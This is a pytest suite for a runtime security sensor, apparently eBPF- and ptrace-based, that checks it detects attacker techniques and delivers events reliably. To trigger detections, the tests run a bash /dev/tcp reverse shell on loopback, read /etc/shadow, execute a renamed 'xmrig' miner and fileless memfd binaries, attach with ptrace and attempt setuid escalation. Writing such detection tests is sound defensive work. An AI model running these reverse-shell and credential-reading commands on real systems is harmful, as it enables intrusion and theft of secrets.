"""The sensor against the real kernel and a small HTTP receiver in place of the hub."""
import ctypes
import gzip
import http.server
import json
import os
import random
import re
import shlex
import shutil
import signal
import socket
import subprocess
import sys
import threading
import time
import uuid

import pytest

ROOT = os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
BUILD = os.environ.get("TOCSIN_BUILD", os.path.join(ROOT, "build", "asan"))
SENSOR = os.path.join(BUILD, "sensor", "tocsin-sensor")
CAP_SYS_ADMIN, CAP_BPF = 21, 39


def ebpf_lacks():
    """What the eBPF probe needs and does not have, or None."""
    if not os.path.exists("/sys/kernel/btf/vmlinux"):
        return "the kernel has no BTF"
    with open("/proc/self/status") as status:
        caps = int(re.search(r"CapEff:\s*([0-9a-f]+)", status.read()).group(1), 16)
    if not caps & (1 << CAP_BPF | 1 << CAP_SYS_ADMIN):
        return "CAP_BPF is not held"
    return None


needs_ebpf = pytest.mark.skipif(ebpf_lacks() is not None, reason=f"skipped, because {ebpf_lacks()}")


# The machine may be busy with other things: rules let through only what these tests do. The first is
# true for all that descends from this process, whatever it does.
OURS = f"tocsin-{os.getpid()}"[:15]
RULES = f"""
- rule: Ours
  desc: Everything that the tests start.
  condition: proc.aname = {OURS}
  output: "%evt.type %proc.cmdline"
  priority: NOTICE
- rule: Marked directory
  desc: What make_events() does.
  condition: evt.type = mkdir and evt.arg.path startswith /nonexistent-
  output: "%evt.arg.path"
  priority: NOTICE
"""
MARKED = RULES[RULES.index("- rule: Marked"):]


@pytest.fixture(scope="module", autouse=True)
def our_name():
    """Gives this process a name of its own (PR_SET_NAME)."""
    before = open("/proc/self/comm").read().strip()
    ctypes.CDLL(None).prctl(15, OURS.encode(), 0, 0, 0)
    yield
    ctypes.CDLL(None).prctl(15, before.encode(), 0, 0, 0)


def wait_for(condition, timeout=15.0, what="condition"):
    end = time.monotonic() + timeout
    while time.monotonic() < end:
        value = condition()
        if value:
            return value
        time.sleep(0.02)
    raise AssertionError(f"not within {timeout} s: {what}")


class Receiver:
    """Takes events and heartbeats; can answer any status, or be closed and opened on its port."""

    def __init__(self, port=0):
        self.lock = threading.Lock()
        self.events, self.heartbeats, self.statuses = [], [], []
        self.status, self.headers = 200, {}
        self.requests = 0
        self.port = port
        self.server = None
        self.open()

    def open(self):
        outer = self

        class Handler(http.server.BaseHTTPRequestHandler):
            protocol_version = "HTTP/1.1"

            def do_POST(self):
                body = self.rfile.read(int(self.headers["Content-Length"]))
                if self.headers.get("Content-Encoding") == "gzip":
                    body = gzip.decompress(body)
                status, headers = outer.take(self.path, self.headers, body)
                self.send_response(status)
                for name, value in headers.items():
                    self.send_header(name, value)
                self.send_header("Content-Length", "2")
                self.end_headers()
                self.wfile.write(b"{}")

            def log_message(self, *args):
                pass

        class Server(http.server.ThreadingHTTPServer):
            daemon_threads = True
            allow_reuse_address = True

        self.server = Server(("127.0.0.1", self.port), Handler)
        self.port = self.server.server_address[1]
        threading.Thread(target=self.server.serve_forever, args=(0.05,), daemon=True).start()

    def close(self):
        if self.server is not None:
            self.server.shutdown()
            self.server.server_close()
            self.server = None

    def take(self, path, headers, body):
        with self.lock:
            self.requests += 1
            status = self.status
            self.statuses.append((path, status))
            if self.server is None:
                return 503, {}
            if path == "/api/v1/sensors/heartbeat":
                self.heartbeats.append(json.loads(body))
                return 200, {}
            assert path == "/api/v1/events"
            assert headers["Content-Type"] == "application/x-ndjson"
            self.authorization = headers.get("Authorization")
            if status == 200:
                self.events += [json.loads(line) for line in body.splitlines()]
            return status, dict(self.headers)

    def find(self, **want):
        """Events whose fields have these values; a_b stands for a.b, and a callable is a test."""

        def matches(fields):
            for name, value in want.items():
                have = fields.get(name.replace("__", "."))
                if not (value(have) if callable(value) else have == value):
                    return False
            return True

        with self.lock:
            return [event for event in self.events if matches(event["fields"])]


class Sensor:
    def __init__(self, spool, hub, *options, command=(), prefix=(), word=None):
        self.spool = str(spool)
        self.log = os.path.join(os.path.dirname(self.spool), f"sensor-{uuid.uuid4().hex}.log")
        arguments = [*prefix, SENSOR, *([word] if word else []), "--spool-dir", self.spool, "--log-level", "debug"]
        if hub is not None:
            arguments += ["--hub", f"http://127.0.0.1:{hub}"]
        arguments += options
        if command:
            arguments += ["--", *command]
        with open(self.log, "w") as log:
            self.process = subprocess.Popen(arguments, stdout=subprocess.PIPE, stderr=log)
        if not command:
            self.wait_for_start()

    def wait_for_start(self):
        """One that does not start is not left behind."""
        try:
            wait_for(lambda: "start: version" in self.text() or self.process.poll() is not None,
                     60, "the sensor's start")
            assert self.process.poll() is None, self.text()
        except AssertionError:
            self.stop(signal.SIGKILL)
            raise

    def text(self):
        with open(self.log) as log:
            return log.read()

    def stop(self, number=signal.SIGTERM):
        if self.process.poll() is None:
            self.process.send_signal(number)
        return self.process.wait(20)


def observed_by(probe, options):
    """What runs a command below a sensor, or beside one that is attached to it first."""
    if probe == "run":
        return [SENSOR, "run", *options, "--"]
    attach = shlex.join([SENSOR, "attach", *options])
    return ["sh", "-c", f"{attach} $$ & while grep -q 'TracerPid:.0$' /proc/$$/status; do sleep 0.05; done; exec \"$@\"", "sh"]


@pytest.fixture
def receiver():
    receiver = Receiver()
    yield receiver
    receiver.close()


@pytest.fixture
def sensors(tmp_path):
    """Starts sensors and sees to it that none is left."""
    started = []

    def start(hub, *options, **more):
        sensor = Sensor(tmp_path / more.pop("spool", "spool"), hub, *options, **more)
        started.append(sensor)
        return sensor

    yield start
    for sensor in started:
        sensor.stop(signal.SIGKILL)


@pytest.fixture
def rules(tmp_path):
    path = tmp_path / "rules.yaml"
    path.write_text(RULES)
    return str(path)


@pytest.fixture
def marked(tmp_path):
    path = tmp_path / "marked.yaml"
    path.write_text(MARKED)
    return str(path)


@pytest.fixture
def everything(receiver, sensors, rules):
    """A sensor that sends all that the tests do."""
    if ebpf_lacks():
        pytest.skip(f"skipped, because {ebpf_lacks()}")
    sensors(receiver.port, "--rules", rules)
    return receiver


def python(code, **more):
    return subprocess.run([sys.executable, "-c", code], check=False, capture_output=True, **more)


# ---- what is observed ----


def test_a_file_made_in_a_binary_directory_is_seen_with_process_parent_user_and_file(everything):
    path = f"/bin/surprise-{uuid.uuid4().hex[:8]}"
    try:
        subprocess.run(["sh", "-c", f"touch {path}; true"], check=True)
    finally:
        os.unlink(path)
    real = os.path.realpath("/bin") + "/" + os.path.basename(path)
    event = wait_for(lambda: everything.find(evt__type="openat", fd__name=real, proc__name="touch"))[0]
    fields = event["fields"]
    assert event["source"] == "syscall" and event["sensor"]["probe"] == "ebpf"
    assert "O_CREAT" in fields["evt.arg.flags"] and "O_WRONLY" in fields["evt.arg.flags"]
    assert fields["evt.is_open_write"] is True and fields["fd.typechar"] == "f"
    assert fields["fd.nameraw"] == path and fields["evt.rawres"] == fields["fd.num"] >= 0
    assert fields["proc.pname"] == "sh" and fields["proc.cmdline"] == f"touch {path}"
    assert fields["proc.exepath"].endswith("/touch") and fields["proc.cwd"].endswith("/")
    assert fields["proc.aname[2]"] == OURS
    assert fields["user.name"] == "root" and fields["user.uid"] == 0
    assert fields["container.id"] == "host"


@pytest.mark.parametrize("how", ["absolute", "relative", "link"])
def test_reading_shadow_is_seen_whatever_it_is_called(everything, tmp_path, how):
    os.symlink("/etc/shadow", tmp_path / "harmless")
    name, folder = {"absolute": ("/etc/shadow", "/"), "relative": ("shadow", "/etc"),
                    "link": ("harmless", str(tmp_path))}[how]
    subprocess.run(["cat", name], cwd=folder, stdout=subprocess.DEVNULL, check=True)
    event = wait_for(lambda: everything.find(fd__name="/etc/shadow", proc__name="cat"))[0]
    assert event["fields"]["evt.is_open_read"] is True
    assert event["fields"]["evt.arg.flags"] == "O_RDONLY"
    assert event["fields"]["fd.nameraw"] == name


def test_a_read_is_taken_when_a_rule_wants_all_that_a_process_does(everything):
    subprocess.run(["cat", "/etc/hostname"], stdout=subprocess.DEVNULL, check=True)
    wait_for(lambda: everything.find(fd__name="/etc/hostname", proc__name="cat", evt__is_open_read=True))


def test_a_reverse_shell_shows_its_connection_and_its_descriptors(everything):
    listener = socket.create_server(("127.0.0.1", 0))
    port = listener.getsockname()[1]
    shell = subprocess.Popen(["bash", "-c", f"exec bash -i <>/dev/tcp/127.0.0.1/{port} >&0 2>&0"],
                             stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    peer, _ = listener.accept()
    try:
        connect = wait_for(lambda: everything.find(evt__type="connect", fd__sport=port))[0]["fields"]
        assert connect["fd.sip"] == "127.0.0.1" and connect["fd.rip"] == "127.0.0.1"
        assert connect["fd.l4proto"] == "tcp" and connect["fd.type"] == "ipv4"
        assert connect["fd.name"].endswith(f"->127.0.0.1:{port}") and connect["proc.name"] == "bash"
        dup = wait_for(lambda: everything.find(evt__type="dup2", proc__pid=shell.pid,
                                               fd__type="ipv4"))[0]["fields"]
        assert dup["evt.rawres"] in (0, 1, 2) and dup["fd.sport"] == port
    finally:
        peer.close()
        shell.kill()
        shell.wait()
        listener.close()


def test_a_miner_is_seen_by_its_name(everything, tmp_path):
    miner = tmp_path / "xmrig"
    shutil.copy("/bin/sleep", miner)
    subprocess.run([miner, "0"], check=True)
    fields = wait_for(lambda: everything.find(evt__type="execve", proc__name="xmrig"))[0]["fields"]
    assert fields["proc.exepath"] == str(miner) and fields["proc.cmdline"] == "xmrig 0"


def test_a_dropped_binary_shows_how_young_it_is(everything, tmp_path):
    dropped = tmp_path / "dropped"
    shutil.copy("/bin/true", dropped)
    subprocess.run([dropped], check=True)
    fields = wait_for(lambda: everything.find(evt__type="execve", proc__name="dropped"))[0]["fields"]
    assert abs(fields["proc.exe_ino.ctime"] - time.time_ns()) < 30e9
    assert 0 <= fields["proc.exe_ino.ctime_duration_proc_start"] < 30e9
    assert fields["proc.is_exe_from_memfd"] is False


def test_a_program_without_a_file_is_seen(everything):
    python("import os\n"
           "fd = os.memfd_create('ghost')\n"
           "os.write(fd, open('/bin/true', 'rb').read())\n"
           "os.execve(fd, ['ghost'], {})\n")
    fields = wait_for(lambda: everything.find(evt__type="execveat", proc__exe="ghost"))[0]["fields"]
    assert fields["proc.is_exe_from_memfd"] is True
    assert fields["proc.exepath"].startswith("memfd:ghost")
    assert "EXE_FROM_MEMFD" in fields["evt.arg.flags"]


@pytest.mark.parametrize("code, call, argument", [
    ("os.setuid(65534)", "setuid", "evt.arg.uid"),
    ("os.setresuid(65534, 65534, 65534)", "setresuid", "evt.arg.euid"),
    ("os.setreuid(65534, 65534)", "setreuid", "evt.arg.ruid"),
])
def test_a_change_of_identity_is_seen_with_the_new_one(everything, code, call, argument):
    python("import os; " + code)
    fields = wait_for(lambda: everything.find(evt__type=call, user__uid=65534))[0]["fields"]
    assert fields[argument] == "nobody" and fields["user.name"] == "nobody"
    assert fields["evt.res"] == "SUCCESS"


def test_a_refused_change_of_identity_is_seen_too(everything):
    python("import os\nos.setuid(65534)\ntry:\n os.setuid(0)\nexcept OSError: pass\n")
    fields = wait_for(lambda: everything.find(evt__type="setuid", evt__rawres=-1))[0]["fields"]
    assert fields["evt.res"] == "EPERM" and fields["evt.arg.uid"] == "root"


def test_attaching_to_another_process_is_seen(everything):
    victim = subprocess.Popen(["sleep", "30"])
    try:
        python(f"import ctypes; libc = ctypes.CDLL(None); libc.ptrace(16, {victim.pid}, 0, 0)")
        fields = wait_for(lambda: everything.find(evt__type="ptrace",
                                                  evt__arg__request="PTRACE_ATTACH"))[0]["fields"]
        assert fields["evt.arg.pid"] == "sleep" and fields["evt.res"] == "SUCCESS"
    finally:
        victim.kill()
        victim.wait()


def test_names_and_modes_of_files_are_absolute(everything, tmp_path):
    python("import os\n"
           "open('a', 'w').close(); os.chmod('a', 0o4755); os.rename('a', 'b')\n"
           "os.symlink('/etc/shadow', 's'); os.mkdir('d'); os.rmdir('d'); os.unlink('b')\n",
           cwd=tmp_path)
    at = str(tmp_path) + "/"
    chmod = wait_for(lambda: everything.find(evt__arg__filename=at + "a"))[0]["fields"]
    assert "S_ISUID" in chmod["evt.arg.mode"]
    rename = wait_for(lambda: everything.find(evt__arg__oldpath=at + "a"))[0]["fields"]
    assert rename["evt.arg.newpath"] == at + "b"
    link = wait_for(lambda: everything.find(evt__arg__linkpath=at + "s"))[0]["fields"]
    assert link["evt.arg.target"] == "/etc/shadow"
    wait_for(lambda: everything.find(evt__arg__path=at + "d", evt__type="mkdir"))
    wait_for(lambda: everything.find(evt__arg__path=at + "d", evt__type="rmdir"))
    wait_for(lambda: everything.find(evt__arg__path=at + "b", evt__type="unlink"))


def test_the_working_directory_follows_chdir(everything, tmp_path):
    (tmp_path / "deep").mkdir()
    python("import os; os.chdir('deep'); open('made', 'w').close()", cwd=tmp_path)
    fields = wait_for(lambda: everything.find(fd__name=str(tmp_path / "deep" / "made")))[0]["fields"]
    assert fields["proc.cwd"] == str(tmp_path / "deep") + "/"


def test_hostile_bytes_in_names_survive(everything, tmp_path):
    name = b"x\xff\n\"\\\x1b[31m"
    python("import os,sys; open(b'x\\xff\\n\"\\\\\\x1b[31m', 'w').close()", cwd=tmp_path)
    event = wait_for(lambda: everything.find(
        fd__name=lambda have: have and have.startswith(str(tmp_path) + "/x")))[0]
    text = event["fields"]["fd.name"][len(str(tmp_path)) + 1:]
    back = b"".join(bytes([ord(c) & 0xff]) if 0xef00 <= ord(c) <= 0xefff else c.encode() for c in text)
    assert back == name


INT80 = """
#define _GNU_SOURCE
#include <string.h>
#include <sys/mman.h>

int main(int argc, char **argv)
{
	char *low = mmap(0, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
	long result;

	strcpy(low, argv[argc - 1]);
	/* 39 is mkdir there, getpid here */
	__asm__ volatile("int $0x80" : "=a"(result) : "a"(39), "b"(low), "c"(0700) : "memory");
	return result != 0;
}
"""


def test_a_call_by_the_32_bit_entry_is_the_same_call(everything, tmp_path):
    (tmp_path / "int80.c").write_text(INT80)
    if shutil.which("gcc") is None:
        pytest.skip("skipped, because gcc is not installed")
    subprocess.run(["gcc", "-o", tmp_path / "int80", tmp_path / "int80.c"], check=True)
    made_at = str(tmp_path / "made")
    if subprocess.run([tmp_path / "int80", made_at], check=False).returncode != 0:
        pytest.skip("skipped, because the kernel has no 32-bit entry")
    fields = wait_for(lambda: everything.find(evt__arg__path=made_at))[0]["fields"]
    assert fields["evt.type"] == "mkdir" and fields["proc.name"] == "int80"


def cgroup_root():
    """Where the unified hierarchy is mounted, or None."""
    with open("/proc/mounts") as mounts:
        for line in mounts:
            _, where, kind, *_ = line.split()
            if kind == "cgroup2":
                return where
    return None


def test_the_container_is_read_off_the_cgroup(everything):
    root = cgroup_root()
    if root is None or not os.access(root, os.W_OK):
        pytest.skip("skipped, because there is no cgroup2 to write to")
    number = uuid.uuid4().hex + uuid.uuid4().hex
    group = os.path.join(root, f"docker-{number}.scope")
    os.mkdir(group)
    try:
        subprocess.run(["sh", "-c", f"echo $$ >{group}/cgroup.procs && cat /etc/hostname"],
                       stdout=subprocess.DEVNULL, check=True)
        fields = wait_for(lambda: everything.find(evt__type="execve", proc__name="cat"))[0]["fields"]
        assert fields["container.id"] == number[:12] and fields["container.full_id"] == number
    finally:
        wait_for(lambda: not open(f"{group}/cgroup.procs").read())
        os.rmdir(group)


SHIPPED = os.path.join(ROOT, "rules", "tocsin_rules.yaml")


def reverse_shell(_):
    listener = socket.create_server(("127.0.0.1", 0))
    shell = subprocess.Popen(
        ["bash", "-c", f"exec bash -i <>/dev/tcp/127.0.0.1/{listener.getsockname()[1]} >&0 2>&0"],
        stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    listener.accept()[0].close()
    shell.wait()
    listener.close()


def shell_on_a_socket(_):
    """By a program that no rule knows: only what the shell was started with tells."""
    left, right = socket.socketpair()
    listener = socket.create_server(("127.0.0.1", 0))
    client = socket.create_connection(listener.getsockname())
    subprocess.run(["sh", "-c", "true"], stdin=client, check=True)
    for end in (left, right, listener, client):
        end.close()


def plant(_):
    path = f"/bin/surprise-{uuid.uuid4().hex[:8]}"
    subprocess.run(["touch", path], check=True)
    os.unlink(path)


def mine(tmp_path):
    shutil.copy("/bin/sleep", tmp_path / "xmrig")
    subprocess.run([tmp_path / "xmrig", "0"], check=True)


def trace(_):
    victim = subprocess.Popen(["sleep", "30"])
    python(f"import ctypes; ctypes.CDLL(None).ptrace(16, {victim.pid}, 0, 0)")
    victim.kill()
    victim.wait()


def run_from_memory(_):
    python("import os\nfd = os.memfd_create('ghost')\n"
           "os.write(fd, open('/bin/true', 'rb').read())\nos.execve(fd, ['ghost'], {})\n")


def set_bit(tmp_path):
    shutil.copy("/bin/true", tmp_path / "suid")
    subprocess.run(["chmod", "u+s", tmp_path / "suid"], check=True)


def escalate(_):
    python("import os\nos.setuid(65534)\ntry: os.setuid(0)\nexcept OSError: pass\n")


@needs_ebpf
@pytest.mark.parametrize("act, want", [
    (plant, {"evt__type": "openat", "proc__name": "touch"}),
    (lambda _: subprocess.run(["cat", "/etc/shadow"], stdout=subprocess.DEVNULL, check=True),
     {"fd__name": "/etc/shadow", "proc__name": "cat"}),
    (reverse_shell, {"evt__type": "connect", "proc__name": "bash"}),
    (reverse_shell, {"evt__type": "dup2", "fd__type": "ipv4"}),
    (shell_on_a_socket, {"evt__type": "execve", "proc__name": "sh", "proc__stdin__type": "ipv4"}),
    (mine, {"evt__type": "execve", "proc__name": "xmrig"}),
    (lambda _: python("import socket; socket.socket().connect_ex(('127.0.0.1', 3333))"),
     {"evt__type": "connect", "fd__sport": 3333}),
    (trace, {"evt__type": "ptrace"}),
    (run_from_memory, {"evt__type": "execveat", "proc__is_exe_from_memfd": True}),
    (set_bit, {"evt__arg__mode": lambda mode: mode and "S_ISUID" in mode}),
    (escalate, {"evt__type": "setuid", "evt__res": "EPERM"}),
], ids=["write below bin", "shadow", "reverse shell connects", "reverse shell dups",
        "shell on a socket", "miner", "pool port", "ptrace", "fileless", "setuid bit", "setuid"])
def test_the_shipped_rules_let_a_technique_through(receiver, sensors, tmp_path, act, want):
    sensors(receiver.port, "--rules", SHIPPED)
    act(tmp_path)
    wait_for(lambda: receiver.find(**want), what=str(want))


# ---- accounting and delivery ----


def sequence(receiver, boot):
    with receiver.lock:
        return [event["sensor"]["seq"] for event in receiver.events if event["sensor"]["boot"] == boot]


def boots(receiver):
    with receiver.lock:
        return list(dict.fromkeys(event["sensor"]["boot"] for event in receiver.events))


def is_complete_and_in_order(numbers):
    """1..n, none missing, none new before an older one; repeats are allowed."""
    highest = 0
    for number in numbers:
        if number > highest + 1:
            return False
        highest = max(highest, number)
    return bool(numbers)


def make_events(count, tag):
    """Directories under a name of their own, each one event."""
    for i in range(count):
        try:
            os.mkdir(f"/nonexistent-{tag}/{i}")
        except FileNotFoundError:
            pass


def made(receiver, tag):
    return receiver.find(evt__type="mkdir", evt__arg__path=lambda have: have and tag in have)


@needs_ebpf
def test_the_heartbeat_accounts_for_every_record(receiver, sensors, marked):
    sensor = sensors(receiver.port, "--rules", marked)
    make_events(2000, "account")
    wait_for(lambda: len(made(receiver, "account")) == 2000)
    assert sensor.stop() == 0
    last = receiver.heartbeats[-1]
    stats = last["stats"]
    assert stats["in_ring"] == 0
    assert stats["seen"] == stats["filtered"] + stats["emitted"] + sum(stats["lost"].values())
    assert sum(stats["lost"].values()) == 0
    assert last["sensor"]["last_seq"] == stats["emitted"] == max(sequence(receiver, last["sensor"]["boot"]))
    assert {"processes", "evicted"} <= set(stats["table"])


@needs_ebpf
def test_a_storm_of_forks_is_accounted_for(receiver, sensors, rules):
    sensor = sensors(receiver.port, "--rules", rules)
    code = ("import os\nfor i in range(3000):\n"
            " pid = os.fork()\n"
            " if pid == 0: os._exit(0)\n"
            " os.waitpid(pid, 0)\n")
    subprocess.run([sys.executable, "-c", code], check=True)
    assert sensor.stop() == 0
    stats = receiver.heartbeats[-1]["stats"]
    assert stats["seen"] == stats["filtered"] + stats["emitted"] + sum(stats["lost"].values())
    assert stats["lost"]["process"] == 0
    assert stats["seen"] >= 6000
    assert stats["table"]["processes"] < 1000


@needs_ebpf
def test_what_a_full_ring_drops_is_counted_exactly(receiver, sensors, marked):
    sensor = sensors(receiver.port, "--rules", marked)
    os.kill(sensor.process.pid, signal.SIGSTOP)
    make_events(60000, "flood")
    subprocess.run(["true"], check=True)
    os.kill(sensor.process.pid, signal.SIGCONT)
    assert sensor.stop() == 0
    stats = receiver.heartbeats[-1]["stats"]
    lost = stats["lost"]
    # Other programs' calls are lost with ours, so their number is a bound; the equation is exact.
    assert 0 < 60000 - stats["emitted"] <= lost["path"] < 60000
    assert stats["seen"] == stats["filtered"] + stats["emitted"] + sum(lost.values())
    assert lost["process"] == 0, "the reserve is for these"


@needs_ebpf
def test_its_own_traffic_does_not_feed_it(receiver, sensors, marked):
    sensor = sensors(receiver.port, "--rules", marked)
    make_events(50, "own")
    wait_for(lambda: len(made(receiver, "own")) == 50)
    assert not receiver.find(proc__pid=sensor.process.pid)


@needs_ebpf
def test_a_receiver_that_is_away_for_ten_seconds_gets_everything_in_order(receiver, sensors, marked):
    sensor = sensors(receiver.port, "--rules", marked)
    make_events(300, "before")
    wait_for(lambda: len(made(receiver, "before")) == 300)
    receiver.close()
    end = time.monotonic() + 10
    rounds = 0
    while time.monotonic() < end:
        make_events(200, f"away{rounds}-")
        rounds += 1
        time.sleep(0.2)
    assert "events go to the spool" in sensor.text()
    receiver.open()
    wait_for(lambda: len(made(receiver, f"away{rounds - 1}-")) >= 200, 60, "the spool's delivery")
    make_events(10, "after")
    wait_for(lambda: len(made(receiver, "after")) >= 10, 30)
    assert sensor.stop() == 0
    [boot] = boots(receiver)
    numbers = sequence(receiver, boot)
    assert is_complete_and_in_order(numbers)
    assert max(numbers) == receiver.heartbeats[-1]["sensor"]["last_seq"]
    for i in range(rounds):
        assert len({json.dumps(e["sensor"]) for e in made(receiver, f"away{i}-")}) == 200


@needs_ebpf
@pytest.mark.parametrize("status", [429, 500, 503])
def test_a_refusal_is_waited_out_for_as_long_as_the_hub_asks(receiver, sensors, marked, status):
    receiver.status, receiver.headers = status, {"Retry-After": "2"}
    sensors(receiver.port, "--rules", marked)
    make_events(20, "refused")
    wait_for(lambda: ("/api/v1/events", status) in receiver.statuses)
    first = time.monotonic()
    receiver.status, receiver.headers = 200, {}
    wait_for(lambda: len(made(receiver, "refused")) == 20)
    assert time.monotonic() - first > 1.8
    assert is_complete_and_in_order(sequence(receiver, boots(receiver)[0]))


@needs_ebpf
def test_a_spool_survives_kill_9(receiver, sensors, marked):
    receiver.close()
    sensor = sensors(receiver.port, "--rules", marked)
    make_events(500, "killed")
    wait_for(lambda: "events go to the spool" in sensor.text())
    make_events(500, "killed-later")

    def spooled():
        """Events on disk: the spool's records are not packed."""
        count = 0
        for name in os.listdir(sensor.spool):
            if name.endswith(".seg"):
                with open(os.path.join(sensor.spool, name), "rb") as segment:
                    count += segment.read().count(b'"evt.type":"mkdir"')
        return count

    wait_for(lambda: spooled() == 1000, what="all events in the spool")
    sensor.stop(signal.SIGKILL)
    receiver.open()
    second = sensors(receiver.port, "--rules", marked)
    make_events(5, "second")
    wait_for(lambda: len(made(receiver, "second")) == 5, 30)
    assert "of an earlier run wait to be sent" in second.text()
    old, new = boots(receiver)
    assert is_complete_and_in_order(sequence(receiver, old))
    assert is_complete_and_in_order(sequence(receiver, new))
    assert len({e["sensor"]["seq"] for e in made(receiver, "killed")}) == 1000
    order = [event["sensor"]["boot"] for event in receiver.events]
    assert order.index(new) > max(i for i, boot in enumerate(order) if boot == old)
    ids = {event["sensor"]["id"] for event in receiver.events}
    assert len(ids) == 1


@needs_ebpf
def test_sigterm_leaves_nothing_behind_but_the_spool(receiver, sensors, marked):
    receiver.close()
    sensor = sensors(receiver.port, "--rules", marked)
    make_events(100, "term")
    assert sensor.stop() == 0
    receiver.open()
    sensors(receiver.port, "--rules", marked)
    wait_for(lambda: len(made(receiver, "term")) == 100, 30)


@needs_ebpf
def test_metrics_say_what_the_heartbeat_says(receiver, sensors, marked):
    sensor = sensors(receiver.port, "--rules", marked, "--metrics", "127.0.0.1:0")
    port = int(re.search(r"\(port (\d+)\)", sensor.text()).group(1))

    def scrape(path="/metrics"):
        with socket.create_connection(("127.0.0.1", port), 5) as connection:
            connection.sendall(f"GET {path} HTTP/1.1\r\nHost: x\r\n\r\n".encode())
            return b"".join(iter(lambda: connection.recv(65536), b"")).decode()

    make_events(30, "metrics")
    text = wait_for(lambda: "tocsin_sensor_events_total 30\n" in scrape() and scrape())
    assert text.startswith("HTTP/1.1 200 OK\r\n")
    assert re.search(r'^tocsin_sensor_records_lost_total{class="process"} 0$', text, re.M)
    assert re.search(r'^tocsin_sensor_records_seen_total{class="path"} [1-9]', text, re.M)
    assert re.search(r'^tocsin_sensor_spool_events 0$', text, re.M)
    assert scrape("/other").startswith("HTTP/1.1 404")
    assert sensor.stop() == 0


@needs_ebpf
def test_the_token_is_sent_and_never_shown(receiver, sensors, marked, tmp_path):
    secret = "s3cret-" + uuid.uuid4().hex
    (tmp_path / "token").write_text(secret + "\n")
    sensor = sensors(receiver.port, "--rules", marked, "--token", f"file:{tmp_path}/token")
    make_events(5, "token")
    wait_for(lambda: len(made(receiver, "token")) == 5)
    assert receiver.authorization == f"Bearer {secret}"
    sensor.stop()
    assert secret not in sensor.text()


@needs_ebpf
def test_two_sensors_do_not_share_a_spool(receiver, sensors, marked):
    sensors(receiver.port, "--rules", marked)
    with pytest.raises(AssertionError, match="another sensor"):
        sensors(receiver.port, "--rules", marked)


# ---- with the hub itself ----


@needs_ebpf
def test_an_alert_arrives_at_an_output_of_the_hub_also_after_the_hub_was_killed(sensors, tmp_path):
    if not os.path.exists(os.path.join(BUILD, "hub", "tocsin-hub")):
        pytest.skip("skipped, because the hub is not built")
    from hub import Hub
    (tmp_path / "hub").mkdir()
    alerts = tmp_path / "alerts.json"
    with socket.create_server(("127.0.0.1", 0)) as free:
        port = free.getsockname()[1]
    hub = Hub(tmp_path / "hub", {"listen": f"127.0.0.1:{port}", "rules_files": [SHIPPED],
                                 "outputs": {"archive": {"type": "file", "path": str(alerts)}}}).start()
    sensor = sensors(hub.port, "--rules", SHIPPED)

    def stored(path):
        text = alerts.read_text() if alerts.exists() else ""
        return [alert for alert in map(json.loads, text.splitlines())
                if (alert["output_fields"].get("fd.name") or "").endswith(path)]

    def surprise():
        path = f"/bin/surprise-{uuid.uuid4().hex[:8]}"
        subprocess.run(["touch", path], check=True)
        os.unlink(path)
        return os.path.basename(path)

    path = surprise()
    alert = wait_for(lambda: stored(path), what="the alert")[0]
    assert alert["rule"] == "Write below binary dir" and alert["priority"] == "Error"
    assert "File below a known binary directory opened for writing" in alert["output"]
    assert f"process=touch parent={OURS} grandparent=" in alert["output"]
    hub.kill()
    during = [surprise() for _ in range(5)]
    wait_for(lambda: "events go to the spool" in sensor.text())
    hub.start()
    for name in during:
        wait_for(lambda name=name: stored(name), 60, "the alert from the spool")
    assert hub.metric("tocsin_hub_sensor_sequence_gaps_total") == 0
    sensor.stop()
    hub.stop()


# ---- the ptrace probe ----


@pytest.fixture
def traced(receiver, sensors):
    """Runs a command under the ptrace probe to its end; gives the receiver and the exit status."""

    def run(*command, **more):
        sensor = sensors(receiver.port, "--all-events", command=command, **more)
        return receiver, sensor.process.wait(60), sensor

    return run


def test_a_command_under_ptrace_keeps_its_output_and_exit_status(traced):
    _, status, sensor = traced("sh", "-c", "echo out; exit 7")
    assert status == 7 and sensor.process.stdout.read() == b"out\n"
    assert "because a command is to be run" in sensor.text()


def test_a_command_that_a_signal_ends_has_that_as_status(traced):
    assert traced("sh", "-c", "kill -9 $$")[1] == -9


def test_a_command_that_does_not_exist_has_status_127(traced):
    assert traced("/nonexistent/command")[1] == 127


def test_under_ptrace_files_are_seen_as_by_ebpf(traced, tmp_path):
    receiver, _, _ = traced("sh", "-c", f"cd {tmp_path}; touch made; cat /etc/shadow >/dev/null; rm made")
    touch = receiver.find(evt__type="openat", fd__name=str(tmp_path / "made"))[0]
    assert touch["sensor"]["probe"] == "seccomp"
    fields = touch["fields"]
    assert fields["proc.cmdline"] == "touch made" and fields["proc.pname"] == "sh"
    assert fields["fd.nameraw"] == "made" and fields["proc.cwd"] == str(tmp_path) + "/"
    assert fields["evt.is_open_write"] is True and "O_CREAT" in fields["evt.arg.flags"]
    assert fields["user.name"] == "root" and fields["container.id"] == "host"
    shadow = receiver.find(fd__name="/etc/shadow")[0]["fields"]
    assert shadow["proc.name"] == "cat" and shadow["evt.arg.flags"] == "O_RDONLY"
    assert receiver.find(evt__type="unlinkat", evt__arg__name=str(tmp_path / "made"))


@pytest.mark.parametrize("how", ["ln -s /etc/shadow x; cat x", "ln -s /etc y; cat y/shadow", "ln -s /etc y; cat $PWD/y/shadow",
                                 "ln -s /etc/shadow x; cat $PWD/x", "ln -s etc /y.{0}; cat /y.{0}/shadow; rm /y.{0}",
                                 "cd /etc; cat shadow", "ln -s /etc y; cat y/../etc/shadow"])
def test_under_ptrace_reading_shadow_is_seen_whatever_it_is_called(receiver, sensors, tmp_path, how):
    command = f"cd {tmp_path}; " + how.format(os.getpid())
    sensor = sensors(receiver.port, "--rules", SHIPPED, command=["sh", "-c", command])
    assert sensor.process.wait(60) == 0
    assert receiver.find(proc__name="cat", fd__name="/etc/shadow", evt__is_open_read=True)


def test_under_ptrace_connections_and_descriptors_are_seen(traced):
    listener = socket.create_server(("127.0.0.1", 0))
    port = listener.getsockname()[1]
    receiver, _, _ = traced("bash", "-c", f"exec 0<>/dev/tcp/127.0.0.1/{port}; true")
    listener.close()
    connect = receiver.find(evt__type="connect", fd__sport=port)[0]["fields"]
    assert connect["fd.sip"] == "127.0.0.1" and connect["fd.l4proto"] == "tcp"
